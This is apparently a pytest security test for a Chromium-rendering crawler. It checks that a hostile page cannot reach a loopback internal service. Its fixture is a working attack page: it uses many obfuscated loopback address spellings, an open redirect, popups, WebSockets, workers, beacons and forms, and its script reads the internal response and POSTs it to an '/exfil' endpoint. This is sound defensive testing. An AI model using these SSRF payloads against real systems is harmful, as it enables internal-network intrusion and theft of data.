"""A hostile page in real Chromium must not reach the internal network, in any way a browser can
connect: redirects of navigations and of subrequests, popups and `target=_blank` (also one the
crawler's own "load more" click opens), WebSockets, workers, beacons, pings, prefetches, forms,
loopback names and every spelling of a loopback address.

The attacker's site is on 127.0.0.2, the only address opened (ALLOWED_PRIVATE_NETWORKS); the
"internal service" is on 127.0.0.1 and records every TCP connection it accepts: it must accept
none, in `render=always` and `render=auto`.
"""

from __future__ import annotations

import socket
import threading
from http.server import BaseHTTPRequestHandler
from urllib.parse import parse_qs, urlsplit

import orjson
import pytest

from tests.conftest import run_crawl, serving

SECRET = "INTERNAL-SECRET-7f3a"


class InternalService:
    """A TCP server on 127.0.0.1 that logs every connection and answers a CORS-open HTTP page
    holding a secret and a link (what an attacker would like to read back)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.connections: list[bytes] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.settimeout(2)
            try:
                data = conn.recv(4096)
            except OSError:
                data = b""
            self.connections.append(data[:200])
            body = f'<html><body><h1>{SECRET}</h1><a href="https://brewbird.io/internal">x</a></body></html>'
            conn.sendall(
                b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/html\r\n"
                + f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}".encode()
            )
            conn.close()

    def close(self) -> None:
        self.sock.close()


def spellings(port: int) -> list[str]:
    """Every way to write "the internal service" that a browser might accept."""
    return [
        f"http://127.0.0.1:{port}",
        f"http://localhost:{port}",
        f"http://LOCALHOST:{port}",
        f"http://localhost.:{port}",
        f"http://admin.localhost:{port}",
        f"http://admin.localhost.:{port}",
        f"http://127.0.0.1.:{port}",
        f"http://127.1:{port}",
        f"http://2130706433:{port}",
        f"http://0x7f000001:{port}",
        f"http://0177.0.0.1:{port}",
        f"http://[::ffff:127.0.0.1]:{port}",
        f"http://[::7f00:1]:{port}",
        f"http://[64:ff9b::7f00:1]:{port}",
        f"http://[::1]:{port}",
        f"http://0.0.0.0:{port}",
    ]


def attack_page(internal: str, port: int) -> str:
    fetches = "".join(f"fetch({orjson.dumps(u + '/f').decode()}).catch(()=>0);" for u in spellings(port))
    return f"""<!DOCTYPE html><html><head><title>Attacker</title>
<link rel="prefetch" href="{internal}/prefetch"><link rel="preconnect" href="{internal}">
<script src="/hop?to={internal}/script.js"></script>
</head><body><div id="app"></div>
<main><p>Read about <a href="https://brewbird.io/">BrewBird</a>.</p>
<a ping="{internal}/ping" href="#top" id="pinger">ping</a>
<a class="load-more" target="_blank" href="{internal}/blank">Load more</a>
<form id="f" method="post" action="{internal}/post" target="_blank"><input name="x" value="1"></form>
<iframe src="/hop?to={internal}/frame"></iframe>
<iframe src="{internal}/frame-direct"></iframe>
</main>
<script>
{fetches}
fetch("/hop?to={internal}/fetch-redirect").then(r => r.text()).then(t =>
  fetch("/exfil", {{method: "POST", body: t}})).catch(()=>0);
try {{ window.open("{internal}/popup"); }} catch (e) {{}}
try {{ new WebSocket("ws://127.0.0.1:{port}/ws"); new WebSocket("ws://localhost:{port}/ws"); }} catch (e) {{}}
try {{ new EventSource("{internal}/events"); }} catch (e) {{}}
try {{ navigator.sendBeacon("{internal}/beacon", "x"); }} catch (e) {{}}
try {{ new SharedWorker("/worker.js"); new Worker("/worker.js"); }} catch (e) {{}}
try {{ document.getElementById("f").submit(); }} catch (e) {{}}
document.getElementById("pinger").click();
document.getElementById("app").innerHTML = '<a href="https://brewbird.io/from-js">BrewBird app</a>';
</script></body></html>"""


class Attacker(BaseHTTPRequestHandler):
    internal = ""
    port = 0
    exfiltrated: list[bytes] = []

    def log_message(self, *args):
        pass

    def do_POST(self):
        length = int(self.headers.get("Content-Length") or 0)
        type(self).exfiltrated.append(self.rfile.read(length))
        self._send(b"ok", "text/plain")

    def do_GET(self):
        parts = urlsplit(self.path)
        if parts.path == "/robots.txt":
            return self._send(b"User-agent: *\nAllow: /\n", "text/plain")
        if parts.path == "/hop":  # an open redirect, as every attacker has
            self.send_response(302)
            self.send_header("Location", parse_qs(parts.query)["to"][0])
            self.send_header("Content-Length", "0")
            return self.end_headers()
        if parts.path == "/worker.js":
            code = f'fetch("{self.internal}/worker").catch(()=>0); onconnect = () => 0;'
            return self._send(code.encode(), "text/javascript")
        if parts.path == "/navaway":
            script = f'<script>location.href = "{self.internal}/nav";</script>'
            body = f"<html><body><p>BrewBird</p>{script}</body></html>"
            return self._send(body.encode(), "text/html")
        return self._send(attack_page(self.internal, self.port).encode(), "text/html")

    def _send(self, body: bytes, kind: str):
        self.send_response(200)
        self.send_header("Content-Type", f"{kind}; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def internal():
    service = InternalService()
    yield service
    service.close()


@pytest.mark.parametrize("render", ["always", "auto"])
def test_no_rendered_page_reaches_the_internal_network(internal, tmp_path, render):
    Attacker.internal = f"http://127.0.0.1:{internal.port}"
    Attacker.port = internal.port
    Attacker.exfiltrated = []
    with serving(Attacker, "127.0.0.2") as attacker:
        seeds = [f"{attacker}/", f"{attacker}/hop?to=http://127.0.0.1:{internal.port}/nav-redirect"]
        seeds += [f"{attacker}/hop?to={u}/r" for u in spellings(internal.port)[1:4]]
        seeds.append(f"{attacker}/navaway")  # the page itself navigates inside once loaded
        result = run_crawl(
            {
                "target": "brewbird.io",
                "seeds": ",".join(seeds),
                "depth": "0",
                "render": render,
                "check_links": "false",
            },
            tmp_path,
            {
                "ALLOWED_PRIVATE_NETWORKS": "127.0.0.2/32",
                "ALLOWED_HOSTS": "",
                "RENDER_NETWORK_IDLE_TIMEOUT_MS": "1500",
            },
        )
    assert result.returncode == 0, result.stderr[-3000:]
    assert internal.connections == [], internal.connections
    assert all(SECRET.encode() not in body for body in Attacker.exfiltrated)
    pages = {p["url"]: p for p in result.records("page")}
    for record_type in ("page", "backlink", "mention"):
        for record in result.records(record_type):
            assert SECRET not in orjson.dumps(record).decode()
            assert "127.0.0.1" not in (record.get("final_url") or "")
    # The attacker's page itself was rendered through the guard, and its script ran.
    index = pages[f"{attacker}/"]
    assert index["status"] == 200 and index["rendered"] is True
    found = {b["target_url"] for b in result.records("backlink") if b["source_url"] == f"{attacker}/"}
    assert found == {"https://brewbird.io/", "https://brewbird.io/from-js"}
    # A navigation redirected inside is a refused page, with the reason; never the inside page.
    refused = [p for url, p in pages.items() if "/hop?" in url]
    assert len(refused) == len(seeds) - 2
    for page in refused:
        assert page["status"] is None and page["error"].startswith("refused: "), page
    # A page that navigates itself inside keeps what it showed before, or is refused; never inside.
    navaway = pages[f"{attacker}/navaway"]
    assert navaway["final_url"] is None or navaway["error"].startswith("refused: "), navaway
    assert result.stat("egress/refused") >= 10
